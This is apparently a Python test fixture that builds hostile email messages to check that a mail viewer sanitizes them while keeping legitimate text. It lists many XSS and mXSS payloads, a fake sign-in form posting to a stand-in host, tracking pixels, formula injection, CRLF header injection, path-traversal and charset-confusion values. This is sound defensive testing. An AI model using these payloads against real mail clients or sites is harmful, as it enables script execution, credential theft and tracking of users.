"""Hostile mails, made by putting each of many payloads into each of many places of a mail.

Every mail also holds honest words (`honest(n)`), which must survive whatever is done to the rest. Mails of one group
answer each other, so that a few conversation pages show them all.
"""

from __future__ import annotations

import base64
import quopri
from collections.abc import Iterator
from dataclasses import dataclass

GROUP = 38
"""mails of one conversation; a page shows forty"""
SENDER = "mallory@customer.example"
CANARY = "canary.example"

HTML = (
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script href='https://canary.example/x.js'></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>", "<style><img title='</style><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg onload=alert(1)>'>", "<template><script>alert(1)</script></template>", "<select><template><img src=x onerror=alert(1)>",
    "<table><td background='https://canary.example/bg.gif'>x</table>", "<body onload=alert(1) background='https://canary.example/b.gif'>",
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<frameset onload=alert(1)><frame src='https://canary.example'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src='https://canary.example/x.swf'>", "<applet code=x archive='https://canary.example/x.jar'>",
    "<base href='https://canary.example/'><a href=x>y</a><img src=p.gif>", "<meta http-equiv=refresh content='0;url=https://canary.example/'>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\">", "<link rel=stylesheet href='https://canary.example/x.css'>", "<link rel='prefetch dns-prefetch preconnect' href='https://canary.example/'>",
    "<style>@import 'https://canary.example/x.css';body{background:url(https://canary.example/c)}@font-face{font-family:x;src:url(https://canary.example/f)}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:url(https://canary.example/o)'>Sign in again</div>", "<p style=\"background:u\\72l('https://canary.example/e')\">x</p>",
    "<form action='https://canary.example/steal' method=post><input name=password type=password autofocus onfocus=alert(1)><button>Sign in</button></form>",
    "<form id=f action='/sign-out' method=post></form><button form=f>x</button><input form=f type=image src='https://canary.example/i'>", "<isindex action='https://canary.example' type=image>",
    "<div hx-get='/sign-out' hx-trigger='load' hx-post='/undo' hx-on:load='alert(1)' hx-on::load='alert(1)' data-hx-get='https://canary.example/hx'>x</div>",
    "<div id=toasts class=toasts data-conversation=1 data-left=1 hx-swap-oob=true>x</div>", "<hx-partial hx-target='#toasts'><img src=x onerror=alert(1)></hx-partial>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href='&#106;avascript&colon;alert(1)'>x</a>", "<a href='\x01javascript:alert(1)'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<a href='/conversations/1/act/spam'>x</a>", "<a href='//canary.example'>x</a>", "<a href='https:\\\\canary.example'>x</a>", "<a href='https://bank.example@canary.example/'>x</a>",
    "<a href='https://canary.example' ping='https://canary.example/ping' target=_top>x</a>", "<a href='#' onclick=alert(1) download>x</a>", "<a target=_parent href='https://canary.example' autofocus onfocus=alert(1) tabindex=0>x</a>",
    "<img src='https://canary.example/p.gif' width=1 height=1>", "<img src='http://127.0.0.1:1/p.gif'>", "<img src='//canary.example/p.gif'>", "<img srcset='https://canary.example/s.gif 1x' src='cid:none'>", "<img src='cid:x\" onerror=alert(1) x=\"'>",
    "<img src='https://canary.example/\" onerror=\"alert(1)'>", "<img alt='\"><script>alert(1)</script>' src='https://canary.example/alt'>", "<img lowsrc='https://canary.example/l' dynsrc='https://canary.example/d' src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<picture><source srcset='https://canary.example/pic'><img src=x></picture>", "<video poster='https://canary.example/v' autoplay onplay=alert(1)><source src='https://canary.example/v.mp4' onerror=alert(1)></video>",
    "<audio src='https://canary.example/a' autoplay>", "<input type=image src='https://canary.example/in' onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<p onpointerenter=alert(1) onanimationstart=alert(1) onfocus=alert(1) contenteditable autofocus>x</p>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='https://canary.example/x.xsl'?>", "</body></html><script>alert(1)</script>",
    "<dialog open><p>Your session ended</p></dialog>", "<custom-element is=x onconnected=alert(1)>x</custom-element>", "<p dir=rtl lang='\"><script>alert(1)</script>'>\u202egpj.exe</p>", "<b>" * 1_500 + "deep",
)  # fmt: skip

TEXT = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "</title></textarea></script><script>alert(1)</script>",
    "{{7*7}}{% include 'base.html' %}", "javascript:alert(1)", "https://canary.example/\"onmouseover=alert(1)//", "https://canary.example/<script>alert(1)</script>",
    "<hx-partial hx-target='#toasts'>x</hx-partial>", "\u202e\u2066evil\u200b", "=cmd|' /C calc'!A0", "%0d%0aSet-Cookie: a=b", "<a href=javascript:alert(1)>x</a>", "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip

CHARSETS = ("utf-7", "utf-16", "utf-16-le", "iso-2022-jp", "hz-gb-2312", "unicode_escape", "zip", "rot13", "idna", "punycode", "x-user-defined", "../../etc/passwd", "utf-8\"; x=\"", "🦊", "base64", "ebcdic-cp-us")  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """One mail: a name for failures, its number, its bytes."""

    name: str
    number: int
    data: bytes


def honest(number: int) -> str:
    """Words that the mail of this number holds beside the hostile ones."""
    return f"honestword{number}x asks for two blue mugs"


def _word(text: str) -> str:
    """A header value that carries any text (RFC 2047)."""
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def _mail(
    number: int, body: str | bytes, *, kind: str = "text/plain; charset=utf-8", **headers: str
) -> bytes:
    first = number - number % GROUP
    fields = {
        "From": f"Mallory <{SENDER}>", "To": "orders@shop.example", "Subject": f"Mugs {first}", "Date": "Mon, 02 Nov 2026 09:00:00 +0000",
        "Message-ID": f"<h{number}@customer.example>", "MIME-Version": "1.0",
        **({"In-Reply-To": f"<h{first}@customer.example>"} if number != first else {}),
        "Content-Type": kind, **{name.replace("_", "-"): value for name, value in headers.items()},
    }  # fmt: skip
    block = "".join(f"{name}: {value}\r\n" for name, value in fields.items()).encode()
    return block + b"\r\n" + (body if isinstance(body, bytes) else body.encode())


def _in_html(payload: str, number: int, way: int) -> bytes:
    """A payload inside an HTML body, carried in one of the ways that mail programs know."""
    html = f"<html><body><p>{honest(number)}</p>{payload}<p>yours</p></body></html>"
    if way == 0:
        return _mail(number, html, kind="text/html; charset=utf-8")
    if way == 1:
        data = base64.encodebytes(html.encode("utf-16"))
        return _mail(number, data, kind="text/html; charset=utf-16", Content_Transfer_Encoding="base64")
    if way == 2:
        data = quopri.encodestring(html.encode())
        before = f"--b\r\nContent-Type: text/plain\r\n\r\n{honest(number)}\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n".encode()
        return _mail(number, before + data + b"\r\n--b--", kind='multipart/alternative; boundary="b"')
    parts = f'--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--b\r\nContent-Type: text/html; name="x.html"\r\nContent-Disposition: inline; filename="x.html"\r\nContent-ID: <x>\r\n\r\n{payload}\r\n'
    return _mail(number, parts, kind="multipart/related; boundary=b")


def _in_places(payload: str, number: int, place: int) -> bytes:
    """A payload in a header, a name or a plain text."""
    if place == 0:
        return _mail(number, f"{honest(number)}\r\n{payload}\r\n> {payload}\r\n-- \r\n{payload}")
    if place == 1:
        word = _word(payload)
        return _mail(number, honest(number), Subject=word, From=f"{word} <{SENDER}>", To=f"{word} <orders@shop.example>", Cc=f"{word} <x@y.example>",
                     Reply_To=f"{word} <z@z.example>", Message_ID=f"<{payload}@h{number}>", List_Id=word, X_Mailer=word)  # fmt: skip
    if place == 2:
        part = f"--b\r\nContent-Type: text/plain\r\n\r\n{honest(number)}\r\n--b\r\nContent-Type: image/svg+xml; name=\"{_word(payload)}\"\r\nContent-Disposition: attachment; filename*=utf-8''{''.join(f'%{byte:02x}' for byte in payload.encode())}\r\n\r\n<svg onload='alert(1)'/>\r\n--b--"
        return _mail(number, part, kind="multipart/mixed; boundary=b")
    inner = f"From: {_word(payload)} <a@b.example>\r\nSubject: {_word(payload)}\r\nContent-Type: text/html\r\n\r\n{payload}"
    part = f"--b\r\nContent-Type: text/plain\r\n\r\n{honest(number)}\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--b--"
    return _mail(number, part, kind="multipart/mixed; boundary=b")


def _in_charset(label: str, number: int) -> bytes:
    html = f"<p>{honest(number)}</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-\x1b$B<script>\x1b(B~{{<img src=x onerror=alert(1)>~}}"
    return _mail(number, html, kind=f'text/html; charset="{label}"')


def hostile_mails() -> Iterator[Hostile]:
    """All of them, numbered in their order."""
    number = 0
    for position, payload in enumerate(HTML):
        for way in (position % 4, (position + 1) % 4):
            yield Hostile(f"html way {way}: {payload[:60]}", number, _in_html(payload, number, way))
            number += 1
    for payload in TEXT:
        for place in range(4):
            yield Hostile(f"place {place}: {payload[:60]}", number, _in_places(payload, number, place))
            number += 1
    for label in CHARSETS:
        yield Hostile(f"charset {label}", number, _in_charset(label, number))
        number += 1
